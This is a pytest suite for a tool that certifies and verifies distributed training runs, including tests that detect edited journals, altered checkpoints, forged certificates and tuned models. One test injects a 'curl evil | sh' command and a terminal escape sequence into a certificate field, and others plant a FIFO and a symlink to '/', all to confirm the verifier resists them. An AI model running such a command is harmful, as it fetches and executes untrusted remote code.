"""``unisono certify`` and ``unisono verify``: what was trained on several workers is checked alone, and attacks on it
are named.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import shutil
import subprocess
import sys
from collections.abc import Callable
from importlib.resources import files as resources
from pathlib import Path
from typing import Any, NamedTuple

import msgspec
import pytest
import torch
from msgspec.structs import replace as replaced
from safetensors.torch import load_file, save_file
from torch.nn import functional as F

from tests.waiting import WAIT_S
from tests.workers.conftest import served_by
from tests.workers.disk import wait_for_disk
from tests.workers.test_replay import SCRIPT as CHECKPOINTED
from tests.workers.test_replay import STRATEGIES, begun, settled
from unisono.cli.again import PastRun
from unisono.cluster.worker import member
from unisono.core.errors import StopInspection, UsageError
from unisono.record import checkpoint_files as files
from unisono.record.journal import JOURNAL, read
from unisono.record.journal.chain import BEGIN, written
from unisono.testing import Faults, run_workers
from unisono.tools.certificate import statement
from unisono.tools.certificate.gathering import gathered
from unisono.tools.certificate.keys import read_key, sign
from unisono.tools.certificate.recomputing import Result, compared, wanted_of
from unisono.tools.certificate.statement import End, Predicate, Statement, parse_envelope, parse_statement
from unisono.tools.certificate.stretches import Stretch, cut

__all__ = ["settled"]  # a fixture

pytestmark = [pytest.mark.more, pytest.mark.usefixtures("nursery")]

UNISONO = (sys.executable, "-m", "unisono")
ARGUMENTS = ("--steps", "12", "--every", "3", "--keep", "9", "--even", "--wait-for-disk")


def unisono(*words: object, status: int = 0, **popen: Any) -> str:
    """What the command has said, on both streams."""
    command = [*UNISONO, *map(str, words)]
    done = subprocess.run(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=WAIT_S, check=False,
        **{"stdin": subprocess.DEVNULL, **popen},
    )  # fmt: skip
    assert done.returncode == status, done.stdout
    return done.stdout


def said_in(certificate: Path) -> Statement:
    return parse_statement(parse_envelope(certificate.read_bytes()).content)


class World(NamedTuple):
    """A run that was trained and certified, and what a stranger has of it."""

    folder: Path

    @property
    def run(self) -> Path:
        return self.folder / "run"

    @property
    def certificate(self) -> Path:
        return self.run / "certificate.json"

    @property
    def signer(self) -> tuple[object, ...]:
        return ("--signer", self.folder / "key.pub")

    def verify(self, *words: object, status: int = 0) -> str:
        return unisono("verify", self.certificate, *self.signer, *words, status=status)

    def recomputed(self, *words: object, status: int = 0) -> str:
        return self.verify("--run", self.run, *words, CHECKPOINTED, "--", *ARGUMENTS, status=status)

    def signed_anew(self, change: Callable[[dict[str, Any]], None]) -> None:
        """The owner of the key certifies what is not so."""
        key = read_key(self.folder / "key", str)
        content = msgspec.json.decode(parse_envelope(self.certificate.read_bytes()).content)
        change(content["predicate"])
        predicate = msgspec.convert(content["predicate"], Predicate)
        said = Statement(subject=statement.subjects(predicate), predicate=predicate)
        self.certificate.write_bytes(msgspec.json.encode(sign(msgspec.json.encode(said), key)))

    def certify(self, *words: object) -> str:
        return unisono("certify", self.run, "--key", self.folder / "key", *words)


@pytest.fixture(scope="module")
def trained(standing_nursery: str, tmp_path_factory: pytest.TempPathFactory) -> World:
    """Three workers, of which one is killed; stopped in the middle, and resumed on two."""
    world = World(tmp_path_factory.mktemp("certified"))
    kills = Faults().kill("w1", step=4, at="after_backward").kill_run("w0", step=8, at="step_head")
    with served_by(standing_nursery):
        first = run_workers(CHECKPOINTED, 3, directory=world.run, arguments=ARGUMENTS, faults=kills)
        assert first.exit_code != 0, first.output
        resume = ["--resume", str(world.run)]
        again = run_workers(CHECKPOINTED, 2, directory=world.run, arguments=ARGUMENTS, options=resume)
        assert again.exit_code == 0, again.output
    said = world.certify("--make-key", "--with", "script")
    assert "12 steps, 4 checkpoints, signed with SHA256:" in said
    unisono("checkpoints", world.run, "export", world.folder / "model.safetensors")
    return world


@pytest.fixture
def world(trained: World, tmp_path: Path) -> World:
    shutil.copytree(trained.folder, tmp_path / "world")
    return World(tmp_path / "world")


# -- what is right -----------------------------------------------------------------------------------


def test_what_two_and_three_workers_have_trained_is_right_alone(trained: World) -> None:
    said = trained.verify("--run", trained.run, "--model", trained.folder / "model.safetensors")
    assert "right: the journal: 12 steps in a chain that matches the certificate" in said
    assert "right: 4 checkpoints of 4" in said
    assert "no step was computed again" in said
    said = trained.recomputed("--segments", 2)
    assert said.count("computed again\n") == 2, said
    assert "100 % of the steps lead to a state" in said
    assert "if 1 of the 4 stretches was false, this check found it with a probability of 50 %" in said
    assert "all 12 steps were computed again" in trained.verify("--all", CHECKPOINTED, "--", *ARGUMENTS)


def test_workers_may_compute_it_again(trained: World) -> None:
    assert "1 of 4 stretches" in trained.recomputed("--segments", 1, "--workers", 2)


def test_the_certificate_is_the_same_for_any_number_of_workers(trained: World, tmp_path: Path) -> None:
    alone = run_workers(CHECKPOINTED, 1, directory=tmp_path / "alone", arguments=ARGUMENTS)
    assert alone.exit_code == 0, alone.output
    calm, hurt = gathered(tmp_path / "alone"), said_in(trained.certificate)
    for name in ("recipe", "script", "data", "chain", "gaps", "states", "end", "arithmetic"):
        mine, theirs = getattr(calm.predicate, name), getattr(hurt.predicate, name)
        if name == "script":
            theirs = msgspec.structs.replace(theirs, text=None)
        assert mine == theirs, name
    assert calm.subject == hurt.subject
    assert (calm.predicate.run.resumed, hurt.predicate.run.resumed) == (0, 1)


def test_the_schema_in_the_wheel_describes_the_certificate(trained: World) -> None:
    import jsonschema

    schema = json.loads((resources("unisono.tools.certificate") / "schema.json").read_text())
    assert schema == statement.schema(), "write it anew: json.dumps(statement.schema(), indent=1)"
    content = json.loads(parse_envelope(trained.certificate.read_bytes()).content)
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(content, schema)
    for name in ("chain", "recipe", "run"):
        broken = {**content, "predicate": {key: value for key, value in content["predicate"].items() if key != name}}
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(broken, schema)


def test_a_key_of_ssh_signs_with_its_password(trained: World, tmp_path: Path) -> None:
    for name, password in (("open", ""), ("closed", "sesame")):
        make = ["ssh-keygen", "-q", "-t", "ed25519", "-N", password, "-f", tmp_path / name]
        subprocess.run(make, check=True, stdin=subprocess.DEVNULL)
        shown = subprocess.run(["ssh-keygen", "-l", "-f", tmp_path / name], check=True, capture_output=True, text=True)
        words = ("certify", trained.run, "--key", tmp_path / name, "-o", tmp_path / "c.json")
        said = unisono(*words, input=f"{password}\n", stdin=None)
        assert shown.stdout.split()[1] in said
        unisono("verify", tmp_path / "c.json", "--signer", shown.stdout.split()[1])


def test_a_check_that_computes_nothing_does_without_torch(trained: World) -> None:
    code = """
import sys
from unisono.cli import main
try:
    main()
except SystemExit as end:
    assert not end.code
assert "torch" not in sys.modules
"""
    model = trained.folder / "model.safetensors"
    words = ("verify", trained.certificate, *trained.signer, "--run", trained.run, "--model", model)
    for command in (words, ("certify", trained.run, "-o", trained.folder / "again.json", "--model", model)):
        own = [sys.executable, "-c", code, *map(str, command)]
        done = subprocess.run(own, capture_output=True, text=True, timeout=WAIT_S, check=False)
        assert done.returncode == 0, done.stderr


def computed_again(trained: Callable[[Path], None], run: Path, said: Predicate, stretch: Stretch, folder: Path) -> str:
    """Compute a stretch again in this process; returns what is wrong."""
    again = PastRun(run, (str(CHECKPOINTED),))
    start = run / files.FOLDER / files.step_name(stretch.first)
    wanted = msgspec.json.encode(wanted_of(said, run, stretch, folder)).decode()
    spec = again.spec(None, str(folder / "run"), "recompute", wanted)
    settings = msgspec.structs.replace(spec.settings, resume=str(start) if stretch.first else "")
    member.settle(msgspec.structs.replace(spec, settings=settings))
    try:
        trained(run)
    except StopInspection:
        result = msgspec.json.decode((folder / "result").read_bytes(), type=Result)
        assert result.code == 0, result.words
    return compared(said, stretch, folder / "run")


@pytest.mark.parametrize("name", STRATEGIES)
def test_every_strategy_comes_to_the_certified_states(name: str, tmp_path: Path) -> None:
    """Two calls of run.steps: a checkpoint is at the end of the first."""
    run = tmp_path / "run"
    STRATEGIES[name](run)
    said = gathered(run).predicate
    stretches = cut([state.step for state in said.states], said.run.steps)
    assert len(stretches) >= 3
    for number, stretch in enumerate([*stretches, Stretch(0, said.run.steps)]):
        folder = tmp_path / str(number)
        folder.mkdir()
        assert computed_again(STRATEGIES[name], run, said, stretch, folder) == "", stretch
    first = said.states[0]
    false = [msgspec.structs.replace(first, sha256="0" * 64), *said.states[1:]]
    assert f"the state after {first.step} steps has the SHA-256 {first.sha256}" in compared(
        msgspec.structs.replace(said, states=false), stretches[0], tmp_path / "0" / "run"
    )


def test_a_run_without_some_samples_is_certified_with_their_list(tmp_path: Path) -> None:
    (tmp_path / "list").write_text("3\n")
    options = ["--set", f"without={tmp_path / 'list'}"]
    named = ["--without", tmp_path / "list"]
    done = run_workers(CHECKPOINTED, 2, directory=tmp_path / "run", arguments=ARGUMENTS, options=options)
    assert done.exit_code == 0, done.output
    unisono("certify", tmp_path / "run", "-o", tmp_path / "c.json")
    left_out = said_in(tmp_path / "c.json").predicate.recipe["without"]
    assert left_out["samples"] == 1
    words = ("verify", tmp_path / "c.json", "--any-signer", "--all", CHECKPOINTED, "--", *ARGUMENTS)
    assert "give the list whose SHA-256 is" in unisono(*words, status=2)
    (tmp_path / "other").write_text("4\n")
    others = ("--without", tmp_path / "other")
    assert "give the list whose SHA-256 is" in unisono(*words[:2], *others, *words[2:], status=2)
    assert "all 12 steps were computed again" in unisono(*words[:2], *named, *words[2:])


# -- what is wrong -----------------------------------------------------------------------------------


def edit(run: Path, step: int, *, chained: bool, **values: Any) -> int:
    """Write other values into a step's line of the journal, and chain the lines anew, or not; returns its number."""
    number = next(line["line"] for line in read(run) if line.get("step") == step)
    value, texts = BEGIN, []
    for line in read(run):
        if line["line"] == number:
            line |= values
        place = line.pop("line")
        told = line.pop("chain")
        text, value = written(place, line, value)
        texts.append(text if chained else json.dumps({"line": place, **line, "chain": told}))
    (run / JOURNAL).write_text("".join(f"{text}\n" for text in texts))
    return number


def test_an_edited_journal_is_named(world: World) -> None:
    number = edit(world.run, 7, chained=False, loss=0.25)
    assert f"WRONG: line {number} of the journal (that of step 7)" in world.verify("--run", world.run, status=1)
    assert f"line {number} of the journal" in unisono("certify", world.run, status=2)
    edit(world.run, 7, chained=True, loss=0.25)
    said = world.verify("--run", world.run, status=1)
    assert "WRONG: the journal is not the certified one: a line from" in said


def test_an_edited_journal_that_was_certified_anew_is_found_by_computing(world: World) -> None:
    """Whoever owns the key may certify anything. What is computed again tells, and names the step."""
    edit(world.run, 7, chained=True, loss=0.25)
    world.certify()
    assert "no step was computed again" in world.verify("--run", world.run)
    said = world.recomputed("--all", status=1)
    assert "is the first that does not match the journal: loss is" in said


def test_a_swapped_checkpoint_is_named(world: World) -> None:
    other = world.run / files.FOLDER / files.step_name(6)
    shutil.rmtree(other)
    shutil.copytree(world.run / files.FOLDER / files.step_name(3), other)
    assert "WRONG: the checkpoint of step 6 differs" in world.verify("--run", world.run, status=1)


def change_weight(run: Path, step: int) -> None:
    """Write another weight into a checkpoint, with all of its checksums."""
    checkpoint = run / files.FOLDER / files.step_name(step)
    manifest = files.read_manifest(checkpoint)
    entry = next(one for one in manifest.tensors if one.name.endswith("weight"))
    name = sorted(name for name in manifest.files if name.endswith(".safetensors"))[entry.part]
    data = bytearray((checkpoint / name).read_bytes())
    data[8 + int.from_bytes(data[:8], "little") + entry.start] ^= 1
    facts = files.write_file(checkpoint / name, memoryview(data))
    assert facts is not None
    files.write_manifest(checkpoint, msgspec.structs.replace(manifest, files={**manifest.files, name: facts}))


def test_one_bit_of_a_checkpoint_is_named(world: World) -> None:
    change_weight(world.run, 6)
    unisono("checkpoints", world.run, "check")
    assert "WRONG: the checkpoint of step 6 differs" in world.verify("--run", world.run, status=1)


def test_one_bit_of_a_checkpoint_that_was_certified_anew_is_found_by_computing(world: World) -> None:
    """The stretch that ends with it is false, and so is the one that begins with it."""
    change_weight(world.run, 6)
    world.certify()
    assert "right: 4 checkpoints of 4" in world.verify("--run", world.run)
    said = world.recomputed("--segments", 4, status=1)
    assert said.count("computed again\n") == 1, "the stretch before it"
    assert "WRONG: steps 3 to 5 are not what was certified: the state after 6 steps has the SHA-256" in said


def test_another_learning_rate_in_the_middle_is_found(world: World, tmp_path: Path) -> None:
    """The run was trained with it, and the script was put back: journal, checkpoints and certificate are consistent."""
    script, root = tmp_path / "train.py", Path(__file__).resolve().parents[2]
    honest = CHECKPOINTED.read_text().replace("str(Path(__file__).resolve().parents[2])", repr(str(root)))
    faster = "optimizer.param_groups[0]['lr'] *= 1 + (step.number == 7)"
    script.write_text(honest.replace("optimizer.step()", f"{faster}; optimizer.step()"))
    assert script.read_text() != honest
    shutil.rmtree(world.run)
    done = run_workers(script, 2, directory=world.run, arguments=ARGUMENTS)
    assert done.exit_code == 0, done.output
    script.write_text(honest)
    facts = json.loads((world.run / "run.json").read_text())
    facts["environment"]["script"] = ""  # so that the certificate does not name the text that was run
    (world.run / "run.json").write_text(json.dumps(facts))
    world.certify()
    said = world.verify("--segments", 4, "--run", world.run, script, "--", *ARGUMENTS, status=1)
    assert said.count("computed again\n") == 2, said
    assert "step 8 is the first that does not match the journal" in said


def test_a_certificate_of_somebody_else_is_no_success(world: World) -> None:
    unisono("certify", world.run, "--key", world.folder / "other", "--make-key")
    said = world.verify("--run", world.run, status=1)
    assert "WRONG: it is signed by SHA256:" in said
    assert "whom --signer does not name" in said
    unisono("verify", world.certificate, "--any-signer")
    assert "and --signer names nobody" in unisono("verify", world.certificate, status=1)
    unisono("certify", world.run)
    assert "WRONG: it is signed by nobody" in world.verify(status=1)


def test_a_changed_certificate_is_no_success(world: World) -> None:
    envelope = json.loads(world.certificate.read_text())
    content = base64.b64decode(envelope["payload"]).replace(b'"batch_size":24', b'"batch_size":25')
    world.certificate.write_text(json.dumps({**envelope, "payload": base64.b64encode(content).decode()}))
    assert "WRONG: its signature is wrong" in world.verify(status=1)
    assert "WRONG: its signature is wrong" in unisono("verify", world.certificate, "--any-signer", status=1)


def test_a_model_that_was_tuned_afterwards_is_named(world: World) -> None:
    state = load_file(world.folder / "model.safetensors")
    torch.save(state, world.folder / "same.pt")
    world.verify("--model", world.folder / "same.pt")
    name = next(iter(state))
    state[name] = state[name] + 1e-6
    save_file(state, world.folder / "tuned.safetensors")
    said = world.verify("--model", world.folder / "tuned.safetensors", status=1)
    assert "tuned.safetensors does not hold a certified model" in said
    words = ("certify", world.run, "--model", world.folder / "tuned.safetensors")
    assert "does not hold a certified model" in unisono(*words, status=2)


def test_a_certificate_of_another_run_is_named(world: World, tmp_path: Path) -> None:
    other = run_workers(CHECKPOINTED, 1, directory=tmp_path / "other", arguments=("--steps", "3"))
    assert other.exit_code == 0, other.output
    said = world.verify("--run", tmp_path / "other", status=1)
    assert "WRONG: the certificate is for run" in said


def train_between(directory: Path) -> None:
    """A loop that is left by ``break``, and between loops another state, an evaluation, and a checkpoint of its own."""
    run, data, model = begun(directory)
    with run:
        optimizer = torch.optim.AdamW(model.parameters(), lr=0.01)
        scheduler = torch.optim.lr_scheduler.ExponentialLR(optimizer, 0.5)
        run.track(model=model, optimizer=optimizer, scheduler=scheduler)
        for number in range(3):
            for step in run.steps(data, batch_size=12, microbatches=4, epochs=1):
                wait_for_disk(run)
                for inputs, labels in step:
                    F.cross_entropy(model(inputs), labels).backward()
                optimizer.step()
                if number == 1 and step.index == 2:
                    break
            scheduler.step()
            if number != 1:
                run.save()
            run.evaluate(data, lambda batch: {"seen": len(batch[0])}, batch_size=8)


def test_what_stands_between_loops_is_computed_as_it_was(tmp_path: Path) -> None:
    train_between(tmp_path / "run")
    said = gathered(tmp_path / "run").predicate
    stretches = cut([state.step for state in said.states], said.run.steps)
    assert {4, 8, 11} <= {state.step for state in said.states}
    for number, stretch in enumerate([*stretches, Stretch(0, said.run.steps)]):
        folder = tmp_path / str(number)
        folder.mkdir()
        assert computed_again(train_between, tmp_path / "run", said, stretch, folder) == "", stretch


FALSE: dict[str, tuple[Callable[[Predicate], Predicate], str]] = {
    "model": (
        lambda said: replaced(said, end=End(digests={}, models={"model": "0" * 64})),
        "the weights of model have the SHA-256 ",
    ),
    "state": (
        lambda said: replaced(said, states=[replaced(said.states[0], sha256="0" * 64), *said.states[1:]]),
        "the state after 2 steps has the SHA-256 ",
    ),
    "chain": (lambda said: replaced(said, chain=[replaced(said.chain[0], value="0" * 64)]), "the chain up to line "),
    "chain of a state": (
        lambda said: replaced(said, states=[replaced(said.states[0], chain="0" * 64), *said.states[1:]]),
        "the chain up to line ",
    ),
    "more lines": (
        lambda said: replaced(said, chain=[replaced(said.chain[0], last=said.chain[0].last + 1)]),
        "of the journal was not reached",
    ),
    "more steps": (lambda said: replaced(said, run=replaced(said.run, steps=15)), "they end with step 9"),
}


@pytest.fixture(scope="module")
def computed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Predicate, Path]:
    """A run, and the whole of it computed again."""
    folder = tmp_path_factory.mktemp("computed")
    STRATEGIES["plain"](folder / "run")
    said = gathered(folder / "run").predicate
    (folder / "again").mkdir()
    assert computed_again(STRATEGIES["plain"], folder / "run", said, Stretch(0, 10), folder / "again") == ""
    return said, folder / "again" / "run"


@pytest.mark.parametrize("name", FALSE)
def test_a_false_certificate_is_found_by_computing(name: str, computed: tuple[Predicate, Path]) -> None:
    change, words = FALSE[name]
    said, run = computed
    false = change(said)
    assert words in compared(false, Stretch(0, false.run.steps), run)


def test_a_false_certificate_without_its_run_is_found_by_computing(world: World) -> None:
    world.signed_anew(lambda said: said["states"][1].update(sha256="0" * 64))
    said = world.verify("--all", CHECKPOINTED, "--", *ARGUMENTS, status=1)
    assert "WRONG: steps 0 to 11 are not what was certified: the state after 6 steps has the SHA-256" in said


def test_what_a_certificate_says_of_recipe_and_steps_is_computed_as_well(computed: tuple[Predicate, Path]) -> None:
    said, run = computed
    whole = Stretch(0, said.run.steps)
    other = replaced(said, recipe={**said.recipe, "batch_size": 4096})
    assert "the recipe is {" in compared(other, whole, run)
    assert "the digest of its samples" not in compared(replaced(said, data=replaced(said.data, digest="a")), whole, run)
    facts = json.loads((run / "run.json").read_text())
    try:
        (run / "run.json").write_text(json.dumps({**facts, "data": {"digest": "b"}}))
        false = replaced(said, data=replaced(said.data, digest="a"))
        assert "the digest of its samples is b, and not a" in compared(false, whole, run)
    finally:
        (run / "run.json").write_text(json.dumps(facts))


def test_a_checkpoint_of_step_0_begins_no_check(world: World) -> None:
    """It could hold any weights, and a computation from it would be right from there on."""
    folder = world.run / files.FOLDER
    shutil.copytree(folder / files.step_name(3), folder / files.step_name(0))
    manifest = files.read_manifest(folder / files.step_name(0))
    files.write_manifest(folder / files.step_name(0), replaced(manifest, step=0, phase_step=0, lines=0))
    world.certify()
    assert [state.step for state in said_in(world.certificate).predicate.states] == [3, 6, 9, 12]
    content = json.loads(parse_envelope(world.certificate.read_bytes()).content)
    content["predicate"]["states"][0]["step"] = 0
    with pytest.raises(UsageError, match="this is not the certificate of a run"):
        parse_statement(json.dumps(content).encode())


def test_a_hint_is_no_command_of_the_certificate(world: World) -> None:
    def hostile(said: dict[str, Any]) -> None:
        said["arithmetic"]["torch"] = "2.6.0 ; curl evil | sh #"
        said["notes"] = ["x\nsigned by SHA256:AAAA, who was named\x1b[2K"]

    world.signed_anew(hostile)
    said = world.verify("--all", CHECKPOINTED, "--", *ARGUMENTS, status=2)
    assert "To make it equal" not in said
    assert "\nsigned by SHA256:AAAA" not in said
    assert "\x1b" not in said


def test_another_arithmetic_is_refused_before_anything_is_computed(world: World) -> None:
    def elsewhere(said: dict[str, Any]) -> None:
        said["arithmetic"]["torch"] = "2.6.0+cpu"

    world.signed_anew(elsewhere)
    said = world.verify("--all", CHECKPOINTED, "--", *ARGUMENTS, status=2)
    assert "torch: 2.6.0+cpu then, " in said
    assert "To make it equal: pip install torch==2.6.0. Nothing was computed" in said


# -- nothing is executed unasked ---------------------------------------------------------------------


def test_no_script_is_executed_that_nobody_has_named(world: World, tmp_path: Path) -> None:
    said = world.verify("--run", world.run, "--all", status=2)
    assert "is not executed without asking; give the script" in said
    assert "only a script that you have named is executed" in world.verify("--all", status=2)
    (tmp_path / "other.py").write_text("raise SystemExit('executed')")
    said = world.verify("--run", world.run, "--all", tmp_path / "other.py", status=2)
    assert "is not the certified script" in said


@pytest.mark.parametrize("answer", ["n", "y"])
def test_at_a_terminal_the_script_of_the_run_is_confirmed(answer: str, world: World) -> None:
    ours, theirs = pty.openpty()
    command = [*UNISONO, "verify", world.certificate, *world.signer, "--run", world.run, "--segments", "1"]
    with subprocess.Popen(
        command, stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    ) as process:
        os.close(theirs)
        os.write(ours, f"{answer}\n".encode())
        said, _ = process.communicate(timeout=WAIT_S)
    os.close(ours)
    assert "Execute " in said
    assert ("nothing was executed" in said) == (answer == "n")
    assert process.returncode == (2 if answer == "n" else 0), said


def test_a_directory_of_somebody_else_names_no_script(world: World) -> None:
    if os.geteuid():
        pytest.skip("only root gives files away")
    shutil.chown(world.run / "run.json", 65534)
    said = world.verify("--run", world.run, "--all", status=2)
    assert "belongs to" in said
    said = world.verify("--run", world.run, "--all", CHECKPOINTED, status=2)
    assert "give the arguments as well" in said


def test_a_checkpoint_that_is_a_link_or_a_pipe_does_no_harm(world: World) -> None:
    folder = world.run / files.FOLDER
    (folder / files.step_name(3) / files.SKELETON).unlink()
    os.mkfifo(folder / files.step_name(3) / files.SKELETON)
    shutil.rmtree(folder / files.step_name(6))
    (folder / files.step_name(6)).symlink_to("/")
    said = world.verify("--run", world.run, status=1)
    assert "WRONG: the checkpoint of step 3 is broken" in said
    assert "right: 2 checkpoints of 4" in said
